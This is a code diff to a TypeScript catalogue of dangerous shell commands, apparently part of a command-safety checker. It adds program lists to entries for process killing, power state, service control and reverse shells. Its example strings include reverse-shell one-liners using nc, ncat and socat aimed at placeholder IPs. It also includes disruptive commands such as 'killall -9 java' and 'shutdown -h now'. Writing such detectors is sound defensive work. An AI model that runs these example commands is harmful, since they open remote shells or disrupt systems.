@@ -60,6 +60,7 @@ export const SYSTEM_DANGERS: DangerEntry[] = [
   },
   {
     id: 'kill-by-name', risk: 'medium', reason: 'kills processes by name (pkill, killall)',
+    programs: ['pkill', 'killall', 'killall5', 'xkill', 'skill', 'slay'],
     examples: ['pkill node', 'killall -9 java', 'xkill'],
     match: (v) => /^(pkill|killall|killall5|xkill|skill|slay)$/.test(v.program),
   },
@@ -71,6 +72,7 @@ export const SYSTEM_DANGERS: DangerEntry[] = [
   },
   {
     id: 'power-state', risk: 'high', reason: 'reboots, halts or powers off the machine',
+    programs: ['reboot', 'shutdown', 'halt', 'poweroff', 'kexec', 'init', 'telinit', 'systemctl'],
     examples: ['reboot', 'shutdown -h now', 'poweroff', 'systemctl reboot', 'init 0', 'halt'],
     match: (v) => /^(reboot|shutdown|halt|poweroff|kexec)$/.test(v.program)
       || ((v.program === 'init' || v.program === 'telinit') && /^[06]$/.test(v.args[0] ?? ''))
@@ -78,6 +80,7 @@ export const SYSTEM_DANGERS: DangerEntry[] = [
   },
   {
     id: 'service-control', risk: 'medium', reason: 'starts, stops or reconfigures a system service',
+    programs: ['systemctl', 'service', 'rc-service', 'rc-update', 'launchctl', 'initctl', 'sv', 'supervisorctl', 'update-rc.d', 'chkconfig'],
     examples: ['systemctl restart nginx', 'service sshd stop', 'rc-service nginx stop', 'launchctl unload x.plist', 'supervisorctl stop all'],
     match: (v) => {
       if (!/^(systemctl|service|rc-service|rc-update|launchctl|initctl|sv|supervisorctl|update-rc\.d|chkconfig)$/.test(v.program)) return false;
@@ -107,6 +110,7 @@ export const SYSTEM_DANGERS: DangerEntry[] = [
   },
   {
     id: 'reverse-shell', risk: 'high', reason: 'connects a shell to the network (nc -e, socat exec:)',
+    programs: ['nc', 'ncat', 'netcat', 'socat'],
     examples: ['nc -e /bin/sh 203.0.113.1 4444', 'ncat --exec /bin/bash 10.0.0.1 9', 'socat tcp:10.0.0.1:9 exec:/bin/sh'],
     match: (v) => (/^(nc|ncat|netcat)$/.test(v.program) && (optionValue(v.args, ['-e', '-c', '--exec', '--sh-exec', '--lua-exec']) !== undefined))
       || (v.program === 'socat' && v.args.some((a) => /^(exec|system):/i.test(a))),
